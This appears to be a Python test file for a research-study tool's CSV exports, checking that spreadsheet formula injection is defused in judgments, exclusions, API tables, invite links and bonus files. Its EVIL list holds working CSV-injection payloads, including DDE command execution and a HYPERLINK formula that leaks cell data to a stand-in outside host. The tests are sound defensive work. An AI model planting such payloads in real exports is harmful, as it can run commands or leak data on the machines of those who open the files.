"""No cell of a CSV that we write is run as a formula by a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import polars as pl
import pytest
from attacking import Place
from click.testing import CliRunner
from judging import Clock, Study

from judgewell.commands.bonus import bonus
from judgewell.commands.invite import invite
from judgewell.server.owner.actions import ACTIONS, read_fields, run
from judgewell.server.queries.export import FORMULA, defused, export
from judgewell.server.store.transactions import open_store

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://outside.example/?"&A1,"press")',
    "+SUM(1,1)*cmd|'x'!A1",
    "-2+3+cmd|'x'!A1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dSUM(1)",
    "=1+1",
]


def safe(cell: str) -> bool:
    """A cell that begins like a formula is a number or an id in which nothing can be called."""
    return not cell.startswith(FORMULA) or not set("(|!") & set(cell)


@pytest.mark.parametrize("text", EVIL)
def test_free_texts_and_ids(text):
    frame = pl.DataFrame({"comment": [text], "doc": [text], "unit": ["-x_3"], "value": [-5.0]})
    made = defused(frame)
    assert made["comment"][0] == f"'{text}"
    assert safe(made["doc"][0])
    assert (made["unit"][0], made["value"][0]) == ("-x_3", -5.0)


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A study whose ids and people's words are formulas."""
    folder = tmp_path_factory.mktemp("formulas") / "study"
    folder.mkdir()
    ids = [text.strip() for text in EVIL[:5]]
    (folder / "docs.jsonl").write_text("".join(json.dumps({"doc": one, "text": one}) + "\n" for one in ids))
    (folder / "topics.jsonl").write_text(json.dumps({"topic": EVIL[0], "title": EVIL[1]}) + "\n")
    (folder / "pool.jsonl").write_text("".join(json.dumps({"topic": EVIL[0], "doc": one}) + "\n" for one in ids))
    path = folder / "study.toml"
    path.write_text(
        '[study]\nname = "sums"\nconsent = "Yes."\n[topics]\nfile = "topics.jsonl"\n[documents]\nfile = "docs.jsonl"\n'
        '[pool]\nfile = "pool.jsonl"\n[scale]\nkind = "magnitude"\n[units]\ndocuments = 5\nredundancy = 3\n'
        '[checks]\ncomment = 1\n[platform]\nkind = "panel"\nassessor = "pid"\nsession = "sid"\nstudy = "s"\n'
        'return_link = "https://p.example/{code}"\n'
        '[platform.codes]\ncompleted = "C"\n[pay]\namount = 2.0\ncovered = 0\n'
    )
    store = open_store(folder / "sums.sqlite")
    made = Place(Study(store, path, Clock()))
    for outside in ("third-1", "=cmd|1", "honest-1"):
        made.stranger().get("/join", params={"pid": outside, "sid": "=1+1", "s": "@x"})
    for number in (1, 2, 3):
        from judging import Person

        person = Person(made.study, number)
        page = person.page
        while page.kind != "done":
            made.study.clock.move(30)
            text = EVIL[page.progress.position % len(EVIL)] if page.kind == "document" else EVIL[0]
            values = {"document": {"value": "5", "comment": text}, "consent": {"action": "agree"}}
            page = person.send(**values.get(page.kind, {"feedback": text}))
    yield made
    store.close()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_file_of_the_export(place, tmp_path):
    study = place.study
    pseudonym = study.store.read(
        lambda c: c.exec_driver_sql("SELECT pseudonym FROM assessors ORDER BY number").scalar()
    ).result()
    fields = read_fields(ACTIONS["exclude"], {"assessor": pseudonym, "reason": EVIL[0]})
    study.store.write(lambda c: run(c, study.served, study.clock(), ACTIONS["exclude"], fields)).result()
    written = [path for path in export(study.store, tmp_path / "out") if path.suffix == ".csv"]
    assert {path.stem for path in written} >= {"judgments", "excluded", "units", "questionnaire"}
    for path in written:
        found = cells(path.read_text("utf-8"))
        assert all(safe(cell) for cell in found), path.name
        assert any("cmd|" in cell for cell in found), path.name  # what was written is still there


def test_the_apis_tables(place):
    headers = {"authorization": f"Bearer {place.key('owner', 'token', ('read',))}"}
    text = place.stranger().get("/api/v1/judgments?format=csv&all=true", headers=headers).text
    assert "cmd|" in text
    assert all(safe(cell) for cell in cells(text))


def test_bonuses_and_links(place, tmp_path):
    study = place.study.store.engine.url.database
    runner = CliRunner()
    toml = str(study).replace("sums.sqlite", "study.toml")
    people = tmp_path / "people.csv"
    with people.open("w", newline="") as file:
        csv.writer(file).writerows([["label", "note"], *([one.strip() + str(n), one] for n, one in enumerate(EVIL))])
    made = runner.invoke(
        invite, [toml, "--csv", str(people), "-o", str(tmp_path / "links.csv"), "--address", "http://x.example"]
    )
    assert made.exit_code == 0, made.output
    paid = runner.invoke(bonus, [toml, "-o", str(tmp_path / "bonus.csv")])
    assert paid.exit_code == 0, paid.output
    assert (tmp_path / "bonus.csv").exists(), paid.output
    for name in ("links.csv", "bonus.csv"):
        assert all(safe(cell) for cell in cells((tmp_path / name).read_text("utf-8"))), name
    assert "=cmd" not in (tmp_path / "bonus.csv").read_text()
    assert "honest-1" in (tmp_path / "bonus.csv").read_text()
